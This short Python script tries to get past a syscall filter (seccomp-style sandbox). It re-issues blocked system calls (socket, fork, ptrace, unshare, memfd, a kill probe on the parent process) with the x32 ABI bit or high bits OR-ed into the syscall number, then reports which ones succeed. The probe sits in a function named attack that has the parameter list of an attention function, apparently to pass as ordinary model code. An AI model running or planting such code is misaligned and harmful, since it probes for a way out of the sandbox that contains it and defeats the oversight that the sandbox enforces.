"""Repeats refused calls under x32 numbers (nr | 0x40000000) and high bits, which a filter on plain numbers overlooks."""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
z = ctypes.c_long(0)
tries = [("getpid", 39, ()), ("socket", 41, (2, 1, 0)), ("socket unix", 41, (1, 1, 0)), ("fork", 57, ()),
         ("ptrace x32", 521, (0, 0, 0, 0)), ("unshare", 272, (0x10000000,)), ("kill probe", 62, (os.getppid(), 0)),
         ("memfd", 319, (0, 0))]
def attack(q, k, v, mask):
    for bit in (0x40000000, 1 << 32, 0x80000000):
        for name, nr, args in tries:
            r = libc.syscall(ctypes.c_long(nr | bit), *[ctypes.c_long(a) for a in args])
            if r == 0 and name == "fork":
                os._exit(0)
            print(hex(bit), name, r, ctypes.get_errno())
